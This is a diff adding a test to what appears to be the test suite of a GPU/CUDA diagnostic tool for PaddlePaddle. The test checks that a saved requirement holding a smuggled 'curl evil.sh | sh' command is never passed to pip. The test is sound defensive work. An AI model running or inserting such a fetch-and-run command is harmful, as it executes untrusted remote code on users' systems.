@@ -292,3 +292,9 @@ def test_nvml_without_libcuda_under_wsl2_offers_no_linux_driver_package() -> Non
     r = doctor(s.host(driver=wsl, gpus=[s.T4], paddle=s.PADDLE_262_CU118, cuda_driver=NO_LIBCUDA))
     text = fix_text(the(r, "cuda.libcuda-missing"))
     assert "/usr/lib/wsl/lib/libcuda.so.1" in text and "libnvidia-compute" not in text
+
+
+def test_a_saved_requirement_that_is_no_pin_is_never_offered_to_pip() -> None:
+    doc = a100_331([absent("libcublas.so"), absent("libcublasLt.so")])
+    doc["paddle"]["cuda_requirements"] = ["nvidia-cublas-cu12==1; curl evil.sh | sh"]
+    assert "cuda.library-missing" not in ids(doctor(doc))
